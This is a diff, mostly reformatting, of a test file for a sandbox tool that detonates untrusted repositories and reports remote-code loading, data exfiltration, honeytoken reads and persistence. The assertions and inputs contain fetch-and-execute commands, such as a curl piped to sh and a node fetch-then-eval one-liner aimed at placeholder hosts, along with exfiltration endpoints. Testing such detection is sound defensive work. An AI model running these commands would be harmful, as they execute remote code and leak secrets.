@@ -32,15 +32,31 @@ const base: DetonateOptions = { offline: true, timeoutSeconds: 20, settleSeconds
  * command onto the execution map, so `open` is exercised exactly as it reads the map.
  */
 const folderOpenMap = defineRule({
-  meta: { id: 'autorun/test-folder-open', severity: 'info', confidence: 'high', description: 'test map rule', phase: 'map', since: '0.0.0' },
+  meta: {
+    id: 'autorun/test-folder-open',
+    severity: 'info',
+    confidence: 'high',
+    description: 'test map rule',
+    phase: 'map',
+    since: '0.0.0',
+  },
   run(ctx) {
     const text = ctx.text('.vscode/tasks.json');
     if (text === undefined) return;
-    const json = parse(text) as { tasks?: { label?: string; command?: string; linux?: { command?: string }; runOptions?: { runOn?: string } }[] };
+    const json = parse(text) as {
+      tasks?: { label?: string; command?: string; linux?: { command?: string }; runOptions?: { runOn?: string } }[];
+    };
     for (const task of json.tasks ?? []) {
       if (task.runOptions?.runOn !== 'folderOpen') continue;
       const command = task.linux?.command ?? task.command;
-      if (command) ctx.addSurface({ trigger: 'open', kind: 'vscode-task', location: { file: '.vscode/tasks.json' }, command, ...(task.label ? { name: task.label } : {}) });
+      if (command)
+        ctx.addSurface({
+          trigger: 'open',
+          kind: 'vscode-task',
+          location: { file: '.vscode/tasks.json' },
+          command,
+          ...(task.label ? { name: task.label } : {}),
+        });
     }
   },
 });
@@ -88,7 +104,10 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.equal(r.command, 'detonate');
     assert.equal(r.executionMap.at(0)?.trigger, 'open');
     assert.match(r.executionMap.at(0)?.command ?? '', /curl -s http:\/\/payload\.example\.invalid\/linux\.sh \| sh/);
-    assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://payload.example.invalid/linux.sh'), 'HTTP sink saw the request');
+    assert.ok(
+      kinds(r, 'http').some(b => b.detail?.['url'] === 'http://payload.example.invalid/linux.sh'),
+      'HTTP sink saw the request',
+    );
     assert.ok(kinds(r, 'dns').some(b => b.detail?.['name'] === 'payload.example.invalid'));
     assert.ok(kinds(r, 'process').some(b => b.summary.startsWith('curl ')));
     assert.equal(ruleHits(r, 'runtime/remote-code-loaded')[0]?.severity, 'critical');
@@ -111,7 +130,10 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.deepEqual(sent['honeytokens'], ['ssh-key']);
     assert.equal(ruleHits(r, 'runtime/network-egress')[0]?.severity, 'critical');
     assert.deepEqual(ruleHits(r, 'runtime/network-egress')[0]?.location, { file: 'package.json', line: 6 });
-    assert.ok(!kinds(r, 'honeytoken').some(b => b.detail?.['token'] === 'npm-token' && b.detail['expectedReader'] !== true), "npm's own read of ~/.npmrc is expected");
+    assert.ok(
+      !kinds(r, 'honeytoken').some(b => b.detail?.['token'] === 'npm-token' && b.detail['expectedReader'] !== true),
+      "npm's own read of ~/.npmrc is expected",
+    );
   });
 
   it('dev: the server starts with .env loaded, its API route decodes an endpoint, fetches it and runs the body', async () => {
@@ -131,7 +153,10 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
       phases: ['open'],
       commands: {
         open: [
-          { label: 'node https', command: `node -e "fetch('https://secure.example.invalid/stage2').then(r => r.text()).then(t => eval(t)).catch(() => {})"` },
+          {
+            label: 'node https',
+            command: `node -e "fetch('https://secure.example.invalid/stage2').then(r => r.text()).then(t => eval(t)).catch(() => {})"`,
+          },
           { label: 'untrusting client', command: 'wget -q -O- --ca-certificate=/dev/null https://other.example.invalid/z; true' },
         ],
       },
@@ -172,14 +197,37 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
     try {
       const registryUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
-      const r = await detonate(fixture('dep-install-script'), { timeoutSeconds: 30, settleSeconds: 1, phases: ['install'], registryUrl, keepWorkdir: true });
-      const kept = r.notes?.find(n => n.startsWith('work folder kept: '))?.slice('work folder kept: '.length).split(' ')[0] ?? '';
+      const r = await detonate(fixture('dep-install-script'), {
+        timeoutSeconds: 30,
+        settleSeconds: 1,
+        phases: ['install'],
+        registryUrl,
+        keepWorkdir: true,
+      });
+      const kept =
+        r.notes
+          ?.find(n => n.startsWith('work folder kept: '))
+          ?.slice('work folder kept: '.length)
+          .split(' ')[0] ?? '';
       try {
-        assert.ok(r.notes?.some(n => n.startsWith('dependencies fetched with `npm install --ignore-scripts`')), JSON.stringify(r.notes));
-        assert.ok(existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/install.js')), 'the dependency was fetched into the copy');
-        assert.equal(existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/ran-marker')), false, 'its script did not run during the fetch');
+        assert.ok(
+          r.notes?.some(n => n.startsWith('dependencies fetched with `npm install --ignore-scripts`')),
+          JSON.stringify(r.notes),
+        );
+        assert.ok(
+          existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/install.js')),
+          'the dependency was fetched into the copy',
+        );
+        assert.equal(
+          existsSync(join(kept, 'stage/src/node_modules/airlock-fixture-dep/ran-marker')),
+          false,
+          'its script did not run during the fetch',
+        );
         assert.equal(existsSync(join(fixture('dep-install-script'), 'node_modules')), false, 'the original was not touched');
-        assert.ok(kinds(r, 'process').some(b => b.summary === 'node install.js'), 'the script ran in the sandbox');
+        assert.ok(
+          kinds(r, 'process').some(b => b.summary === 'node install.js'),
+          'the script ran in the sandbox',
+        );
         assert.ok(kinds(r, 'http').some(b => b.detail?.['url'] === 'http://dep-beacon.example.invalid/installed'));
       } finally {
         if (kept) rmSync(kept, { recursive: true, force: true });
@@ -213,17 +261,29 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.ok(kinds(r, 'file-write').some(b => b.detail?.['path'] === '/root/.airlock-escape-marker' && b.detail['ok'] === false));
     assert.ok(kinds(r, 'process').some(b => b.summary.startsWith('ls /root')));
     assert.ok(kinds(r, 'network').some(b => b.detail?.['address'] === '198.51.100.7' && b.detail['port'] === 443));
-    assert.ok(kinds(r, 'process').some(b => b.detail?.['leftRunning'] === true && (b.detail['argv'] as string[]).join(' ') === 'sleep 987654'), 'the daemon was reported');
+    assert.ok(
+      kinds(r, 'process').some(b => b.detail?.['leftRunning'] === true && (b.detail['argv'] as string[]).join(' ') === 'sleep 987654'),
+      'the daemon was reported',
+    );
     const dd = kinds(r, 'process').find(b => b.summary.startsWith('dd '));
-    assert.ok(dd?.detail?.['killedBy'] === 'SIGXFSZ' || (dd?.detail?.['exit'] ?? 0) !== 0, 'the disk filler was stopped by the file-size limit');
-    assert.ok(ruleHits(r, 'runtime/persistence-write').some(f => f.severity === 'critical'), 'autostart entry');
+    assert.ok(
+      dd?.detail?.['killedBy'] === 'SIGXFSZ' || (dd?.detail?.['exit'] ?? 0) !== 0,
+      'the disk filler was stopped by the file-size limit',
+    );
+    assert.ok(
+      ruleHits(r, 'runtime/persistence-write').some(f => f.severity === 'critical'),
+      'autostart entry',
+    );
     assert.ok(ruleHits(r, 'runtime/persistence-write').some(f => /bashrc/.test(f.message)));
     assert.ok(ruleHits(r, 'runtime/process-spawn').some(f => /kept running/.test(f.message)));
   });
 
   it('bad repositories get a clear per-phase status: no package.json, broken scripts', async () => {
     const none = await detonate(fixture('no-package'), { ...base });
-    assert.deepEqual(kinds(none, 'phase').map(b => b.detail?.['status']), ['skipped', 'skipped', 'skipped']);
+    assert.deepEqual(
+      kinds(none, 'phase').map(b => b.detail?.['status']),
+      ['skipped', 'skipped', 'skipped'],
+    );
     assert.match(kinds(none, 'phase')[1]?.summary ?? '', /no package\.json/);
     assert.equal(none.verdict, 'pass');
     const broken = await detonate(fixture('broken-scripts'), { ...base, phases: ['install', 'dev'] });
@@ -255,7 +315,11 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     const staticRule = defineRule({
       meta: { id: 'code/test-endpoint', severity: 'high', confidence: 'high', description: 'test static rule', since: '0.0.0' },
       run(ctx) {
-        ctx.report({ message: 'posts to an endpoint', location: { file: 'scripts/setup.js', line: 12 }, evidence: 'http://exfil.example.invalid/upload' });
+        ctx.report({
+          message: 'posts to an endpoint',
+          location: { file: 'scripts/setup.js', line: 12 },
+          evidence: 'http://exfil.example.invalid/upload',
+        });
       },
     });
     const r = await detonate(fixture('postinstall-exfil'), { ...base, phases: ['install'], withScan: true, scanRules: [staticRule] });
@@ -265,30 +329,68 @@ describe('detonate in the bubblewrap sandbox', { skip: !linux && 'bubblewrap nee
     assert.ok(n?.related?.some(l => l.file === 'scripts/setup.js' && l.line === 12));
   });
 
-  it('runs unprivileged too: the CLI started as an ordinary user uses bwrap on user namespaces', { skip: process.getuid?.() !== 0 && 'needs root to switch to an unprivileged user' }, () => {
-    const root = fileURLToPath(new URL('../../', import.meta.url));
-    const tsx = join(root, 'node_modules/tsx/dist/esm/index.mjs');
-    const r = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '--', process.execPath, '--import', tsx, join(root, 'src/cli/main.ts'), 'detonate', fixture('postinstall-exfil'), '--phases', 'install', '--offline', '--format', 'json'], {
-      encoding: 'utf8',
-      cwd: '/tmp',
-      env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: '/tmp', NO_COLOR: '1' },
-      timeout: 120000,
-    });
-    assert.equal(r.status, 1, r.stderr);
-    const report = JSON.parse(r.stdout) as Report;
-    assert.ok(report.notes?.includes('sandbox: bubblewrap (unprivileged)'), JSON.stringify(report.notes));
-    assert.ok(ruleHits(report, 'runtime/honeytoken-access').length > 0);
-  });
+  it(
+    'runs unprivileged too: the CLI started as an ordinary user uses bwrap on user namespaces',
+    { skip: process.getuid?.() !== 0 && 'needs root to switch to an unprivileged user' },
+    () => {
+      const root = fileURLToPath(new URL('../../', import.meta.url));
+      const tsx = join(root, 'node_modules/tsx/dist/esm/index.mjs');
+      const r = spawnSync(
+        'setpriv',
+        [
+          '--reuid=65534',
+          '--regid=65534',
+          '--clear-groups',
+          '--',
+          process.execPath,
+          '--import',
+          tsx,
+          join(root, 'src/cli/main.ts'),
+          'detonate',
+          fixture('postinstall-exfil'),
+          '--phases',
+          'install',
+          '--offline',
+          '--format',
+          'json',
+        ],
+        {
+          encoding: 'utf8',
+          cwd: '/tmp',
+          env: { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: '/tmp', NO_COLOR: '1' },
+          timeout: 120000,
+        },
+      );
+      assert.equal(r.status, 1, r.stderr);
+      const report = JSON.parse(r.stdout) as Report;
+      assert.ok(report.notes?.includes('sandbox: bubblewrap (unprivileged)'), JSON.stringify(report.notes));
+      assert.ok(ruleHits(report, 'runtime/honeytoken-access').length > 0);
+    },
+  );
 
   it('CLI: JSON report, exit 1 on a block verdict; an unavailable backend exits 2 with the reason', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'airlock-cli-'));
     try {
       const out = join(dir, 'r.json');
-      const res = await runAirlock(['detonate', fixture('postinstall-exfil'), '--phases', 'install', '--offline', '--format', 'json', '--output', out, '--timeout', '20']);
+      const res = await runAirlock([
+        'detonate',
+        fixture('postinstall-exfil'),
+        '--phases',
+        'install',
+        '--offline',
+        '--format',
+        'json',
+        '--output',
+        out,
+        '--timeout',
+        '20',
+      ]);
       assert.equal(res.code, 1, res.stderr);
       const report = JSON.parse(readFileSync(out, 'utf8')) as Report;
       assert.equal(report.command, 'detonate');
-      const validate = new Ajv({ allErrors: true, strict: false }).compile(JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8')) as object);
+      const validate = new Ajv({ allErrors: true, strict: false }).compile(
+        JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8')) as object,
+      );
       assert.ok(validate(report), JSON.stringify(validate.errors));
       assert.ok(report.notes?.some(n => n.startsWith('sandbox: bubblewrap')));
       const text = await runAirlock(['detonate', fixture('postinstall-exfil'), '--phases', 'install', '--offline']);
